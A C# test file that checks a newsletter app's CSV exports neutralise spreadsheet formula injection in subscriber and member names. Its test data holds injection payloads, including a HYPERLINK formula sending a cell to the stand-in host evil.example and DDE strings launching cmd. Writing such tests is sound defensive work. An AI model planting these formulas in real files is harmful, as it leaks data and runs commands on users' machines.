using System.Globalization;
using System.Net;
using CsvHelper;
using Masthead.Accounts;
using Masthead.Billing.Subscriptions;
using Masthead.Briefings.Import;
using Masthead.Operations;
using Masthead.Site;
using Masthead.Tests.Billing;
using Masthead.Tests.Billing.Admin;
using Masthead.Tests.Briefings;
using Masthead.Tests.Support;
using Microsoft.EntityFrameworkCore;

namespace Masthead.Tests.Security;

/// <summary>Issue 11 point 4: a name that a spreadsheet would run as a formula leaves every export as text.</summary>
public sealed class CsvInjectionTests
{
    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    /// <summary>One name per character that starts a formula (=, +, -, @, tab, CR), the first the one from the issue.</summary>
    private static readonly string[] Names =
    [
        "=HYPERLINK(\"http://evil.example/?\"&A2,\"Click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1", "\r=1+1",
    ];

    private static string Email(int i) => $"formula{i}@example.test";

    /// <summary>The CSV parsed back with CsvHelper: the named column of each row, by its email.</summary>
    private static Dictionary<string, string> Column(string csv, string column)
    {
        using var reader = new CsvReader(new StringReader(csv), CultureInfo.InvariantCulture);
        reader.Read();
        reader.ReadHeader();
        var cells = new Dictionary<string, string>();
        while (reader.Read()) cells[reader.GetField("email")!] = reader.GetField(column)!;
        return cells;
    }

    private static void AssertNeutralised(string csv, string column)
    {
        var cells = Column(csv, column);
        for (var i = 0; i < Names.Length; i++) Assert.Equal("'" + Names[i], cells[Email(i)]);
    }

    private static async Task SeedSubscribersAsync(TestApp app)
    {
        for (var i = 0; i < Names.Length; i++) await app.ConfirmedSubscriberAsync(Email(i), "daily-briefing");
        // The signup form trims and refuses control characters, so names starting with tab or CR are written directly.
        await app.WithDbAsync(async db =>
        {
            for (var i = 0; i < Names.Length; i++)
            {
                var email = Email(i);
                var name = Names[i];
                await db.Subscribers.Where(s => s.Email == email).ExecuteUpdateAsync(u => u.SetProperty(s => s.Name, name), Ct);
            }
        });
    }

    private static async Task SeedMembersAsync(TestApp app)
    {
        for (var i = 0; i < Names.Length; i++)
        {
            var member = await app.MemberAsync(Email(i), SubscriptionStatus.Active, MemberAdminSeed.At(6, 1), paidAt: MemberAdminSeed.At(6, 8));
            var name = Names[i];
            await app.WithDbAsync(db => db.Users.Where(u => u.Id == member.User.Id)
                .ExecuteUpdateAsync(u => u.SetProperty(x => x.DisplayName, name), Ct));
        }
    }

    [Theory, ClassData(typeof(Databases))]
    public async Task TheSubscriberDownloadAndCliWriteFormulaNamesAsQuotedText(Db db)
    {
        await using var app = await TestApp.StartAsync(db);
        await SeedSubscribersAsync(app);
        var admin = await app.SignedInClientAsync(Roles.Admin);

        AssertNeutralised(await admin.GetStringAsync("/admin/subscribers/export?handler=Csv", Ct), "name");
        var cli = new StringWriter();
        Assert.Equal(Cli.Ok, await SubscriberCommands.ExportAsync(app.Services, [], TestConsole.Create(), cli));
        AssertNeutralised(cli.ToString(), "name");
    }

    [Theory, ClassData(typeof(Databases))]
    public async Task AnExportedFormulaNameImportsBackAsTheOriginalName(Db db)
    {
        string csv;
        await using (var source = await TestApp.StartAsync(db))
        {
            await SeedSubscribersAsync(source);
            csv = await (await source.SignedInClientAsync(Roles.Admin)).GetStringAsync("/admin/subscribers/export?handler=Csv", Ct);
        }
        await using var target = await TestApp.StartAsync(db);
        var file = Path.Combine(target.DataDirectory, "import.csv");
        await File.WriteAllTextAsync(file, csv, Ct);
        Assert.Equal(Cli.Ok, await Cli.RunAsync(target.Services, ["subscribers", "import", file, "--confirmed"], TestConsole.Create()));
        // The four printable ones come back exactly; tab and CR are trimmed by the importer's name rule, as on signup.
        for (var i = 0; i < 4; i++) Assert.Equal(Names[i], (await target.SubscriberAsync(Email(i)))!.Name);
        Assert.Equal("=1+1", (await target.SubscriberAsync(Email(4)))!.Name);
        Assert.Equal("=1+1", (await target.SubscriberAsync(Email(5)))!.Name);
    }

    [Fact]
    public void OnlyTheQuoteTheExporterAddedIsStrippedOnImport()
    {
        Assert.Equal("'=1", SafeCsv.Neutralise("=1"));
        Assert.Equal("=1", SafeCsv.Unescape("'=1"));
        Assert.Equal("'Desk' of O'Brien", SafeCsv.Unescape("'Desk' of O'Brien"));
        Assert.Equal("''=1", SafeCsv.Neutralise("''=1"));
        Assert.Equal("'", SafeCsv.Unescape("'"));
        Assert.Equal("Rana", SafeCsv.Neutralise("Rana"));
        Assert.Equal("", SafeCsv.Neutralise(null));
    }

    [Theory, ClassData(typeof(Databases))]
    public async Task TheMemberDownloadAndCliWriteFormulaNamesAsQuotedText(Db db)
    {
        await using var app = await BillingTestSupport.StartBillingAppAsync(db);
        await SeedMembersAsync(app);
        var admin = await app.SignedInClientAsync(Roles.Admin);

        var response = await admin.GetAsync("/admin/members?handler=Csv", Ct);
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/csv", response.Content.Headers.ContentType!.MediaType);
        var csv = await response.Content.ReadAsStringAsync(Ct);
        AssertNeutralised(csv, "name");

        var output = Path.Combine(app.DataDirectory, "members.csv");
        Assert.Equal(Cli.Ok, await Cli.RunAsync(app.Services, ["members", "export", "--output", output], TestConsole.Create()));
        AssertNeutralised(await File.ReadAllTextAsync(output, Ct), "name");
    }
}
